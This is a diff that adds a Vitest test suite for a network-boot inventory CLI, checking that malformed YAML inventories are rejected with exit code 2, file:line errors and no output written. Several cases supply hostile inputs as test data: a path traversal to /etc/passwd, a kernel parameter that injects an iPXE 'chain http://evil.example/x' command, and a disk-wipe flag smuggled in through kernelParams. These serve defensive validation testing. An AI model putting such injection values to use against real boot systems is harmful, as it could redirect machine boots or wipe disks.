@@ -1,0 +1,126 @@
+// Every kind of inventory mistake, run through the CLI as a user would hit it: exit code 2, a
+// message naming file:line and the field, and nothing written — the existing output tree and
+// the generated Nix are byte-for-byte what they were.
+import { rmSync } from "node:fs";
+import path from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { cleanupTempDirs, cli, inventory, treeChecksum } from "./support/inventory.ts";
+import { missing } from "./support/tools.ts";
+
+const BASE: Record<string, string> = {
+  "netbuild.yaml": "flagPrefix: homelab\n",
+  "classes/demo.yaml": "kind: prebuilt\nkernel: { path: ./demo/kernel }\ninitrd: { path: ./demo/initrd }\nkernelParams: [console=ttyS0]\n",
+  "classes/demo/kernel": "not really a kernel\n",
+  "classes/demo/initrd": "not really an initrd\n",
+  "hosts/a.yaml": 'class: demo\nmac: "52:54:00:00:00:01"\n',
+  "hosts/many.yaml": 'hosts:\n  b:\n    class: demo\n    mac: "52:54:00:00:00:02"\n  c:\n    class: demo\n    macs: ["52:54:00:00:00:03"]\n',
+};
+
+interface Case {
+  name: string;
+  files: Record<string, string | null>;
+  /** Each expected error: `file:line` and a fragment of the rest of the line. */
+  errors: [where: string, text: string | RegExp][];
+  hint?: string;
+}
+
+const host = (body: string) => ({ "hosts/a.yaml": body });
+
+const CASES: Case[] = [
+  { name: "YAML syntax: bad indentation", files: host('class: demo\n mac: "52:54:00:00:00:01"\n'), errors: [["hosts/a.yaml:1:8", "YAML syntax"]] },
+  { name: "YAML syntax: unclosed flow sequence", files: { "classes/demo.yaml": "kind: prebuilt\nkernelParams: [a, b\n" }, errors: [["classes/demo.yaml:", "YAML syntax"]] },
+  { name: "the same host twice in one file", files: { "hosts/many.yaml": 'hosts:\n  b:\n    class: demo\n    mac: "52:54:00:00:00:02"\n  b:\n    class: demo\n    mac: "52:54:00:00:00:04"\n' }, errors: [["hosts/many.yaml:5", "a key appears twice"]] },
+  { name: "misspelt key on a host", files: host('class: demo\nmac: "52:54:00:00:00:01"\nprovison: { disks: true }\n'), errors: [["hosts/a.yaml:3:1", 'hosts.a.provison: unknown key "provison"']] },
+  { name: "misspelt key in provision", files: host('class: demo\nmac: "52:54:00:00:00:01"\nprovision: { disk: true }\n'), errors: [["hosts/a.yaml:3:14", 'hosts.a.provision.disk: unknown key "disk"']] },
+  { name: "unknown key on a class", files: { "classes/demo.yaml": BASE["classes/demo.yaml"] + "kernelparams: [quiet]\n" }, errors: [["classes/demo.yaml:5:1", 'classes.demo.kernelparams: unknown key']] },
+  { name: "unknown key in the site file", files: { "netbuild.yaml": "flagprefix: homelab\n" }, errors: [["netbuild.yaml:1:1", 'site.flagprefix: unknown key']] },
+  { name: "a MAC YAML reads as a number", files: host("class: demo\nmac: 525400000001\n"), errors: [["hosts/a.yaml:2:6", "hosts.a.mac: expected string, got number 525400000001"]], hint: "put it in quotes" },
+  { name: "kernelParams as a string", files: host('class: demo\nmac: "52:54:00:00:00:01"\nkernelParams: quiet\n'), errors: [["hosts/a.yaml:3:15", "hosts.a.kernelParams: expected array"]] },
+  { name: "provision.disks not a boolean", files: host('class: demo\nmac: "52:54:00:00:00:01"\nprovision: { disks: "yes" }\n'), errors: [["hosts/a.yaml:3:21", "hosts.a.provision.disks: expected boolean"]] },
+  { name: "a malformed MAC", files: host('class: demo\nmac: "52:54:00:00:00:0g"\n'), errors: [["hosts/a.yaml:2:6", 'hosts.a.mac: "52:54:00:00:00:0g" is not a MAC address']], hint: "six hex pairs" },
+  { name: "a multicast MAC", files: host('class: demo\nmac: "01:00:5e:00:00:01"\n'), errors: [["hosts/a.yaml:2:6", "multicast"]] },
+  { name: "the same MAC on two hosts, spelt differently", files: { "hosts/d.yaml": "class: demo\nmac: 5254.0000.0002\n" }, errors: [["hosts/many.yaml:4:10", "hosts.b.mac: MAC 52:54:00:00:00:02 is already used by host d (hosts/d.yaml:1)"]], hint: "compared in any spelling" },
+  { name: "a MAC twice in one host's list", files: host('class: demo\nmacs: ["52:54:00:00:00:09", "52-54-00-00-00-09"]\n'), errors: [["hosts/a.yaml:2:29", "hosts.a.macs[1]: 52:54:00:00:00:09 is listed twice"]] },
+  { name: "a hostname defined in two files", files: { "hosts/b.yaml": 'class: demo\nmac: "52:54:00:00:00:05"\n' }, errors: [["hosts/many.yaml:3:5", "hosts.b: host b is already defined in hosts/b.yaml:1"]] },
+  { name: "an unknown class (typo)", files: host('class: demoo\nmac: "52:54:00:00:00:01"\n'), errors: [["hosts/a.yaml:1:8", 'hosts.a.class: unknown class "demoo"']], hint: 'did you mean "demo"' },
+  { name: "a referenced file that does not exist", files: { "classes/demo.yaml": "kind: prebuilt\nkernel: { path: ./demo/vmlinuz }\ninitrd: { path: ./demo/initrd }\n" }, errors: [["classes/demo.yaml:2:17", 'classes.demo.kernel.path: "./demo/vmlinuz" does not exist']] },
+  { name: "a path that leaves the inventory", files: { "classes/demo.yaml": "kind: prebuilt\nkernel: { path: ../../../../etc/passwd }\ninitrd: { path: ./demo/initrd }\n" }, errors: [["classes/demo.yaml:2:17", "points outside the inventory root"]] },
+  { name: "a URL without a pinned hash", files: { "classes/demo.yaml": "kind: prebuilt\nkernel: { url: https://example.org/vmlinuz }\ninitrd: { path: ./demo/initrd }\n" }, errors: [["classes/demo.yaml:2:16", "classes.demo.kernel.url: a URL without a pinned hash"]], hint: "hash: sha256-" },
+  { name: "a malformed SRI hash", files: { "classes/demo.yaml": "kind: prebuilt\nkernel: { url: https://example.org/vmlinuz, hash: sha256-abc }\ninitrd: { path: ./demo/initrd }\n" }, errors: [["classes/demo.yaml:2:51", "classes.demo.kernel.hash: expected an SRI sha256 hash"]] },
+  { name: "an upper-case hostname in a hosts file", files: { "hosts/many.yaml": 'hosts:\n  Bee:\n    class: demo\n    mac: "52:54:00:00:00:02"\n' }, errors: [["hosts/many.yaml:2:3", 'hosts.Bee: "Bee" has upper-case letters']] },
+  { name: "a host file named with an underscore", files: { "hosts/bad_name.yaml": 'class: demo\nmac: "52:54:00:00:00:07"\n' }, errors: [["hosts/bad_name.yaml", 'the host file name: "bad_name" is not a valid hostname']] },
+  { name: "a class file name that is not a safe path segment", files: { "classes/Demo Class.yaml": "kind: prebuilt\nkernel: { path: ./demo/kernel }\ninitrd: { path: ./demo/initrd }\n" }, errors: [["classes/Demo Class.yaml", "does not give a valid class name"]] },
+  { name: "a kernel parameter with a space", files: host('class: demo\nmac: "52:54:00:00:00:01"\nkernelParams: ["quiet splash"]\n'), errors: [["hosts/a.yaml:3:16", 'hosts.a.kernelParams[0]: "quiet splash" contains a space']] },
+  { name: "a kernel parameter injecting a new iPXE command", files: host('class: demo\nmac: "52:54:00:00:00:01"\nkernelParams: ["x=1\\nchain http://evil.example/x"]\n'), errors: [["hosts/a.yaml:3:16", "contains a line break"]] },
+  { name: "a kernel parameter expanding an iPXE setting", files: { "classes/demo.yaml": BASE["classes/demo.yaml"]!.replace("[console=ttyS0]", '["ip=${net0/ip}"]') }, errors: [["classes/demo.yaml:4:16", "classes.demo.kernelParams[0]: \"ip=${net0/ip}\" contains '$'"]] },
+  { name: "a kernel parameter with a quote", files: host("class: demo\nmac: \"52:54:00:00:00:01\"\nkernelParams: ['a=\"b\"']\n"), errors: [["hosts/a.yaml:3:16", "contains a quote"]] },
+  { name: "a kernel parameter with a control character", files: host('class: demo\nmac: "52:54:00:00:00:01"\nkernelParams: ["a=\\u0007"]\n'), errors: [["hosts/a.yaml:3:16", "contains a control character"]] },
+  { name: "a wipe flag on a class", files: { "classes/demo.yaml": BASE["classes/demo.yaml"] + "provision: { disks: true }\n" }, errors: [["classes/demo.yaml:5:1", "classes.demo.provision: provisioning flags cannot be set on a class"]], hint: "on each host" },
+  { name: "a wipe flag smuggled in through a class's kernelParams", files: { "classes/demo.yaml": BASE["classes/demo.yaml"]!.replace("[console=ttyS0]", "[homelab.provision_disks=true]") }, errors: [["classes/demo.yaml:4:16", "sets a provisioning flag by hand"]], hint: "a class cannot wipe disks" },
+  { name: "a wipe flag set by hand on a host", files: host('class: demo\nmac: "52:54:00:00:00:01"\nkernelParams: [homelab.provision_disks=true]\n'), errors: [["hosts/a.yaml:3:16", "sets a provisioning flag by hand"]], hint: "provision: { disks: true }" },
+  { name: "hostname= given by hand", files: host('class: demo\nmac: "52:54:00:00:00:01"\nkernelParams: [hostname=other]\n'), errors: [["hosts/a.yaml:3:16", "netbuild sets hostname="]] },
+  { name: "both mac and macs", files: host('class: demo\nmac: "52:54:00:00:00:01"\nmacs: ["52:54:00:00:00:08"]\n'), errors: [["hosts/a.yaml:1:1", "hosts.a: both `mac` and `macs`"]] },
+  { name: "no MAC at all", files: host("class: demo\n"), errors: [["hosts/a.yaml:1:1", "hosts.a: no MAC address"]] },
+  { name: "an unknown class kind", files: { "classes/demo.yaml": "kind: debian\n" }, errors: [["classes/demo.yaml:1:7", "classes.demo.kind: expected `kind: nixos`, `kind: talos` or `kind: prebuilt`"]] },
+  { name: "a malformed Talos schematic ID", files: { "classes/t.yaml": "kind: talos\ntalos:\n  version: v1.12.2\n  schematicId: abc\n" }, errors: [["classes/t.yaml:4:16", "classes.t.talos.schematicId: expected the 64-hex-digit schematic ID"]] },
+  { name: "the same IP on two hosts", files: host('class: demo\nmac: "52:54:00:00:00:01"\nip: 10.0.0.1\n'), errors: [], },
+  { name: "a malformed RAM size", files: host('class: demo\nmac: "52:54:00:00:00:01"\nram: 16 gigs\n'), errors: [["hosts/a.yaml:3:6", "hosts.a.ram: expected a size like 16GiB"]] },
+  { name: "unknownMachines names a class that does not exist", files: { "netbuild.yaml": "unknownMachines: { class: rescue }\n" }, errors: [["netbuild.yaml:1:27", 'site.unknownMachines.class: unknown class "rescue"']] },
+  {
+    name: "several mistakes in several files, all reported at once",
+    files: { "hosts/a.yaml": 'class: demoo\nmac: "52:54:00:00:00:0g"\n', "classes/demo.yaml": BASE["classes/demo.yaml"]!.replace("[console=ttyS0]", '["a b"]'), "netbuild.yaml": "links: hardlink\n" },
+    errors: [
+      ["classes/demo.yaml:4:16", "contains a space"],
+      ["hosts/a.yaml:1:8", "unknown class"],
+      ["hosts/a.yaml:2:6", "is not a MAC address"],
+      ["netbuild.yaml:1:8", 'site.links: expected one of "symlink", "copy"'],
+    ],
+  },
+];
+// The duplicate-IP case needs a second host with the same address.
+CASES.find((c) => c.name === "the same IP on two hosts")!.files["hosts/e.yaml"] = 'class: demo\nmac: "52:54:00:00:00:0e"\nip: 10.0.0.1\n';
+CASES.find((c) => c.name === "the same IP on two hosts")!.errors.push(["hosts/e.yaml:3:5", "hosts.e.ip: IP 10.0.0.1 is already used by host a"]);
+
+const notHere = missing({ commands: ["nix-build"] });
+
+describe.skipIf(notHere)("bad input: exit 2, file:line:field, nothing written", () => {
+  let out: string;
+  let outSum: string;
+
+  beforeAll(async () => {
+    // A real tree from a valid inventory: every bad run below must leave it exactly as it is.
+    const good = inventory(BASE);
+    out = path.join(good, "out");
+    const r = await cli(["build"], good);
+    expect(r.code, r.stderr).toBe(0);
+    outSum = treeChecksum(out);
+  });
+  afterAll(cleanupTempDirs);
+
+  it("has at least 25 cases", () => expect(CASES.length).toBeGreaterThanOrEqual(25));
+
+  for (const c of CASES) {
+    it(`refuses ${c.name}`, async () => {
+      const files: Record<string, string> = { ...BASE };
+      for (const [k, v] of Object.entries(c.files)) if (v !== null) files[k] = v;
+      const root = inventory(files);
+      // An earlier good generate in this root: a failed run must not touch it either.
+      const gen = await cli(["generate"], inventory(BASE));
+      expect(gen.code).toBe(0);
+      const genBefore = treeChecksum(path.join(root, ".netbuild"));
+      for (const command of [["build", "--out", out], ["generate"], ["plan", "--out", out]]) {
+        const r = await cli(command, root);
+        expect(r.code, r.stderr).toBe(2);
+        expect(r.stderr).toMatch(/netbuild: the inventory has \d+ errors?; nothing was written/);
+        for (const [where, text] of c.errors) {
+          const line = r.stderr.split("\n").find((l) => l.startsWith(where) && (typeof text === "string" ? l.includes(text) : text.test(l)));
+          expect(line, `expected a line starting ${where} with ${String(text)} in:\n${r.stderr}`).toBeDefined();
+        }
+        if (c.hint) expect(r.stderr).toContain(c.hint);
+        expect(treeChecksum(out)).toBe(outSum);
+        expect(treeChecksum(path.join(root, ".netbuild"))).toBe(genBefore);
+      }
+      rmSync(root, { recursive: true, force: true });
+    });
+  }
+});
